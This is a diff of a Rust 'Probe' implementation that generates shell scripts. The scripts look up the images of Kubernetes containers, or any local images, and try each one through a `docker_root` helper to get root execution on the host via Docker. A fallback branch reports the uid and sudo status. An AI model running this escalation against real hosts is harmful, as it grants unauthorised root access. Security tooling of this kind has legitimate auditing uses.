@@ -93,12 +93,15 @@ impl Probe<'_> {
         );
         let docker = format!(
             "export {docker_host}\n\
-             for name in kubelet kube-proxy kube-apiserver service-sidekick nginx-proxy share-mnt; do\n  \
-             image=$(docker inspect --format '{{{{.Image}}}}' \"$name\" 2>/dev/null) || continue\n  \
-             printf '\\n%s access docker %s\\n' {marker} \"$image\"\n  \
+             try() {{\n  \
+             printf '\\n%s access docker %s\\n' {marker} \"$1\"\n  \
              {} env {docker_host} /bin/sh -c {body}\n  \
-             case $? in 125|126|127) ;; *) exit 0 ;; esac\ndone\n",
-            docker_root("\"$image\"")
+             case $? in 125|126|127) ;; *) exit 0 ;; esac\n\
+             }}\n\
+             for name in kubelet kube-proxy kube-apiserver service-sidekick nginx-proxy share-mnt; do\n  \
+             image=$(docker inspect --format '{{{{.Image}}}}' \"$name\" 2>/dev/null) && try \"$image\"\ndone\n\
+             for image in $(docker images -q --no-trunc 2>/dev/null | head -n 5); do try \"$image\"; done\n",
+            docker_root("\"$1\"")
         );
         let refused = format!(
             "printf '\\n%s none %s\\n' {marker} \"uid $(id -u); sudo: $(sudo -n true 2>&1 | head -n 1); \
